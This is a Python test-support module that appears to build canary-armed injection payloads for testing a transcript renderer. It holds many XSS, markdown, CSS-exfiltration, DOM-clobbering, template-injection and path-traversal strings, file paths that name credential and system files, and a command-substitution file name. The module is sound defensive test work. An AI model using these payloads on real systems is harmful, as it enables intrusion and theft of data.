"""What a transcript may hold to do harm to its reader: a corpus of texts, each of which rings if it does what it wants.

In a template `@J` is a script that rings the canary, `@U` an address that does so when it is asked for, `@N` the
number by which the culprit is told. Everything here is made for this project. No product code.
"""

from typing import Final

from tests.support.payloads_odd import BLOCKS, CONTROLS

HOST: Final = "canary.invalid"

RAW_HTML: Final = r"""
<script>@J</script>
<script src=@U></script>
<ScRiPt >@J</sCrIpT >
<script/x>@J</script>
<script type=module>@J</script>
<script type="text/javascript" async src="@U"></script>
<scr<script>ipt>@J</scr</script>ipt>
<script>/*<!--*/@J/*-->*/</script>
<noscript><p title="</noscript><script>@J</script>">
<img src=x onerror=@J>
<img src="x" onerror="@J">
<img/src=x/onerror=@J//>
<IMG SRC=x ONERROR=@J>
<img src=x oNeRrOr = "@J" />
<img src onerror=@J srcset="@U 1x">
<img src="@U">
<img srcset="@U 2x, @U/b 3x">
<img src=//canary.invalid/@N>
<picture><source srcset=@U><img></picture>
<video autoplay poster=@U src=@U onloadstart=@J><source src=@U onerror=@J></video>
<audio autoplay src=@U onerror=@J controls></audio>
<body onload=@J background=@U>
<body onpageshow=@J onhashchange=@J onscroll=@J>
<input autofocus onfocus=@J>
<input type=image src=@U onerror=@J>
<select autofocus onfocus=@J><option>a</select>
<textarea autofocus onfocus=@J>
<button autofocus onfocus=@J formaction="javascript:@J">press</button>
<keygen autofocus onfocus=@J>
<details open ontoggle=@J><summary onclick=@J>more</summary></details>
<marquee onstart=@J onfinish=@J>moving</marquee>
<div onmouseover=@J onpointerover=@J onwheel=@J>here</div>
<div tabindex=0 onfocusin=@J autofocus>here</div>
<p style="animation: spin 1s" onanimationstart=@J ontransitionend=@J>here</p>
<xss id=x tabindex=1 onactivate=@J onbeforematch=@J hidden=until-found>x</xss>
<dialog open oncancel=@J onclose=@J><form method=dialog><button autofocus>x</button></form></dialog>
<div popover id=pop@N onbeforetoggle=@J></div><button popovertarget=pop@N>x</button>
<iframe src="javascript:@J"></iframe>
<iframe src=@U></iframe>
<iframe srcdoc="<script>@J</script><img src=x onerror=parent.@J>"></iframe>
<iframe onload=@J></iframe>
<frameset><frame src="javascript:@J"></frameset>
<object data="data:text/html,<script>@J</script>"></object>
<object data=@U type=text/html onerror=@J></object>
<embed src="javascript:@J">
<embed src=@U type=image/svg+xml>
<applet code=@U archive=@U></applet>
<portal src=@U></portal>
<base href=@U/><a href=x>x</a>
<base target=_top href="javascript:@J//">
<meta http-equiv=refresh content="0;url=@U">
<meta http-equiv="refresh" content="0;javascript:@J">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline' *">
<meta name=referrer content=unsafe-url>
<meta charset=utf-7>
<link rel=stylesheet href=@U>
<link rel=prefetch href=@U><link rel=preload as=image href=@U><link rel=dns-prefetch href=//n@N.canary.invalid>
<link rel=icon href=@U><link rel=manifest href=@U><link rel=modulepreload href=@U>
<link rel=stylesheet href="data:text/css,*{background:url(@U)}" onload=@J>
<form action=@U><input name=q><button autofocus>send</button></form>
<form id=chat action="javascript:@J"><input type=submit autofocus></form>
<form><button formaction=@U>send</button></form><input form=levels type=submit formaction=@U>
<a href="javascript:@J">press</a>
<a href="JaVaScRiPt:@J">press</a>
<a href=" javascript:@J">press</a>
<a href="java&#9;script:@J">press</a>
<a href="&#106;&#97;vascript&colon;@J">press</a>
<a href="javascript&#0000058@J">press</a>
<a href="vbscript:msgbox(1)">press</a>
<a href="data:text/html,<script>@J</script>">press</a>
<a href="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=">press</a>
<a href="blob:null/@N" download>press</a>
<a href=/ ping=@U>press</a>
<a href="view-source:@U">press</a>
<a target=_blank rel=opener href=@U>press</a>
<area href="javascript:@J" shape=default><map name=m@N></map><img usemap=#m@N src=@U>
<isindex type=image src=@U onerror=@J>
<template><script>@J</script></template>
<template shadowrootmode=open><img src=x onerror=@J></template>
<slot onslotchange=@J></slot>
<plaintext>
<xmp><img src=x onerror=@J></xmp>
<listing>&lt;img src=x onerror=@J&gt;</listing>
<noembed><img src=x onerror=@J></noembed>
<comment><img src="</comment><img src=x onerror=@J>">
<table background=@U><td background=@U>x</table>
<bgsound src=@U><layer src=@U></layer><ilayer src=@U>
<import namespace=x implementation=@U>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">@J</x:script>
<?xml-stylesheet href="javascript:@J"?><?php @J ?>
<!DOCTYPE x [<!ENTITY y SYSTEM "@U">]><x>&y;</x>
<![CDATA[<img src=x onerror=@J>]]>
<!--><img src=x onerror=@J>-->
<!--[if gte IE 4]><script>@J</script><![endif]-->
<%= @J %><# @J #>
"""

FOREIGN: Final = r"""
<svg onload=@J>
<svg/onload=@J//
<svg><script>@J</script></svg>
<svg><script href=@U /></svg>
<svg><script xlink:href="data:text/javascript,@J"></script></svg>
<svg><a xlink:href="javascript:@J"><text y=20>press</text></a></svg>
<svg><animate onbegin=@J attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values="javascript:@J"/><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=@J /></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=@J></svg>#x"/></svg>
<svg><use href="@U#x"/><image href="@U"/><feImage href="@U"/></svg>
<svg><foreignObject><iframe src="javascript:@J"></iframe><body onload=@J></foreignObject></svg>
<svg><style>@import url(@U);*{background:url(@U)}</style></svg>
<svg><title><img src=x onerror=@J></title></svg>
<svg><desc><![CDATA[</desc><script>@J</script>]]></desc></svg>
<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript">@J</handler></svg>
<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="@J"><image href="@U"/></svg>
<math><maction actiontype="statusline#@U" xlink:href="javascript:@J">x</maction></math>
<math href="javascript:@J"><mi xlink:href="javascript:@J">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=@J></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=@J></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@J>
<svg></p><style><a id="</style><img src=x onerror=@J>">
<svg><p><style><!--</style><img src=x onerror=@J>-->
<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=@J&gt;">
<table><td><svg><desc><table><td></desc><img src=x onerror=@J>
<noscript><style></noscript><img src=x onerror=@J>
<select><style></select><img src=x onerror=@J></style>
<a><table><a href="javascript:@J">x</a></table></a>
<p><p id="`<img src=x onerror=@J>`">
<div id="</div><img src=x onerror=@J>"><b><i></b></i>
<option><style></option></select><img src=x onerror=@J></style>
"""

MARKDOWN: Final = r"""
[press](javascript:@J)
[press](JAVASCRIPT:@J "title")
[press](<javascript:@J>)
[press](java%0ascript:@J)
[press](javascript&#58;@J)
[press](&#x6A;avascript:@J)
[press](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)
[press](vbscript:x) [press](file:///etc/passwd) [press](\\canary.invalid\@N)
[press](//canary.invalid/@N) [press](/chats?q=@N) [press](#main)
[press](@U" onmouseover="@J)
[press](@U 'x" onmouseover="@J')
[press]( @U?`<img src=x onerror=@J>` )
![](@U)
![x](@U "x")
![x](data:image/svg+xml,<svg onload=@J>)
![x](x" onerror="@J)
![`"><img src=x onerror=@J>`](@U)
![![![nested](@U)](@U)](@U)
[![x](@U)](javascript:@J)
<javascript:@J>
<@U>
<@U"onmouseover="@J>
@U/"onmouseover=@J
www.canary.invalid/@N
mailto:x@canary.invalid?body=<img/src=x/onerror=@J>
<x@canary.invalid"onmouseover="@J>
**<img src=x onerror=@J>** _<svg onload=@J>_ ~~<b onclick=@J>~~
`<img src=x onerror=@J>` ``` ` <script>@J</script> ```
\<img src=x onerror=@J\> &lt;script&gt;@J&lt;/script&gt;
# <img src=x onerror=@J> {#chat onclick=@J}
- [ ] <input type=checkbox checked onchange=@J autofocus onfocus=@J>
$\href{javascript:@J}{x}$ $$\unicode{<img src=x onerror=@J>}$$ \(\style{x}{y}\)
:::{onclick=@J} x ::: {{< raw @J >}} {: onclick="@J"}
[[javascript:@J|press]] !!! x @@ http-equiv
"""

BREAKOUTS: Final = r"""
"><script>@J</script>
'><script>@J</script>
`><script>@J</script>
"><img src=x onerror=@J>
' onmouseover='@J
" onmouseover="@J
" autofocus tabindex=1 onfocus="@J" x="
' autofocus tabindex=1 onfocus='@J' x='
"/onfocus=@J/autofocus/x="
x onmouseover=@J autofocus onfocus=@J
x"onmouseover=@J y
x style=background:url(@U)
" style="background:url(@U)
&quot;&gt;&lt;img src=x onerror=@J&gt;
&#34;&#62;&#60;img src=x onerror=@J&#62;
&amp;lt;img src=x onerror=@J&amp;gt;
&lt;img src=x onerror=@J
&LT;script&GT;@J&LT;/script&GT;
%3Cscript%3E@J%3C/script%3E
%253Cscript%253E@J%253C%252Fscript%253E
\u003cscript\u003e@J\u003c/script\u003e
\x3cimg src=x onerror=@J\x3e
+ADw-script+AD4-@J+ADw-/script+AD4-
＜script＞@J＜/script＞
‹img src=x onerror=@J›
ŝcript<ſcript>@J</ſcript>
</title><script>@J</script>
</textarea><script>@J</script>
</style><script>@J</script>
</script><script>@J</script>
</script ><img src=x onerror=@J>
</pre></code></details></section></article></main></body></html><script>@J</script>
</td></tr></table></div></ul></ol><img src=x onerror=@J>
</svg></math></template></noscript><img src=x onerror=@J>
</a></summary></nav></form><img src=x onerror=@J>
--><script>@J</script>
--!><script>@J</script>
]]><script>@J</script>
*/</style><script>@J</script>/*
*/@J/*
';@J//
";@J//
\";@J//
`;@J//
${@J}
#{@J}
{{@J}}
{{constructor.constructor('@J')()}}
<div ng-app ng-csp>{{$eval.constructor('@J')()}}</div>
<div v-html="'<img src=x onerror=@J>'" x-data x-init=@J data-bind="html: @J" hx-on:load=@J></div>
{% import os %}{{ config }}{%raw%}@J
"}]}</script><script>@J</script>
{"html": "<img src=x onerror=@J>", "__html": "<img src=x onerror=@J>"}
{"__proto__": {"innerHTML": "<img src=x onerror=@J>"}}
__proto__
constructor
</script><!--<script>@J
<!--<script>@J</script>
javascript:@J
javascript://canary.invalid/%0a@J
data:text/html,<script>@J</script>
data:image/svg+xml;utf8,<svg onload=@J>
feed:javascript:@J
jar:@U!/x
"""

STYLES: Final = r"""
<style>*{background:url(@U)}</style>
<style>@import '@U';</style>
<style>@font-face{font-family:x;src:url(@U)}*{font-family:x}</style>
<style>body{display:none!important}</style>
<div style="background:url(@U)">x</div>
<div style="position:fixed;inset:0;z-index:99999;background:#fff">you are hacked</div>
<div style="width:expression(@J);-moz-binding:url(@U);behavior:url(@U)">x</div>
<p style='x:\75 rl(@U);list-style:\000075rl(@U)'>x</p>
;background:url(@U)
}*{background:url(@U)}
red;}@import url(@U);{
url(javascript:@J)
<style>input[value^=a]{background:url(@U)}</style>
<style>@media print{*{background:url(@U)}}</style>
<font color="red;background:url(@U)" face="x" size=+99>x</font>
"""

CLOBBERING: Final = r"""
<a id=chat></a><a id=messages></a><a id=main></a>
<form id=chat><input name=dataset><input id=attributes></form>
<img name=getElementById><img name=querySelector><img name=cookie>
<a id=defaultView href="javascript:@J"></a>
<a id=location href="@U"></a><iframe name=location></iframe>
<form name=body><input name=firstChild></form>
<a id=hit></a><a id=hit name=x href="javascript:@J"></a>
<object id=documentElement></object><embed name=scripts>
<input id=search><input id=levels name=level value=talk>
<svg id=palette></svg><div id=pill class=copy-code data-action=palette data-message=x data-src=@U data-fill=@U>x</div>
<a data-raw href=@U>raw</a><a data-fill=@U href=@U class=more>more</a><details open data-src=@U></details>
"""

PATHS: Final = r"""
../../../../../../etc/passwd
/etc/passwd
..\..\..\..\windows\win.ini
file:///etc/passwd
\\canary.invalid\share\@N
//canary.invalid/@N/../x
%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%c0%af..%c0%afetc/passwd
..%252f..%252fetc%252fpasswd
/proc/self/environ
/dev/zero
~/.claude/.credentials.json
C:\x:$DATA
CON
x/../../<img src=x onerror=@J>.py
/a/"><img src=x onerror=@J>/b.svg
/a/$(touch @N)`touch @N`;touch @N|x&.sh
-rf --out=/etc/passwd
"""

NUMBERS: Final = """
NaN
Infinity
-Infinity
1e999
-0
0x7fffffffffffffff
99999999999999999999999999999999
9999-12-31T23:59:59.999Z
0000-00-00T00:00:00Z
-271821-04-20T00:00:00Z
2026-01-05T10:00:00+99:99
1970-01-01
null
[object Object]
"""


def _lines(text: str) -> tuple[str, ...]:
    return tuple(line for line in text.split("\n") if line)


TEMPLATES: Final = (
    *_lines(RAW_HTML), *_lines(FOREIGN), *_lines(MARKDOWN), *_lines(BREAKOUTS), *_lines(STYLES), *_lines(CLOBBERING),
    *_lines(PATHS), *_lines(NUMBERS), *CONTROLS, *BLOCKS,
)  # fmt: skip


def armed(template: int, number: int) -> str:
    """A payload that says `number` when it rings."""
    text = TEMPLATES[template % len(TEMPLATES)]
    return (
        text.replace("@J", f"hit({number})").replace("@U", f"http://{HOST}/{number}").replace("@N", str(number))
    )  # fmt: skip


def culprit(number: int) -> tuple[int, int]:
    """Which template rang, and in which field it stood."""
    return divmod(number, FIELDS)


def number_of(template: int, field: int) -> int:
    """The number of a template in a field."""
    return template % len(TEMPLATES) * FIELDS + field


FIELDS: Final = 1000
"""More than a transcript has fields."""
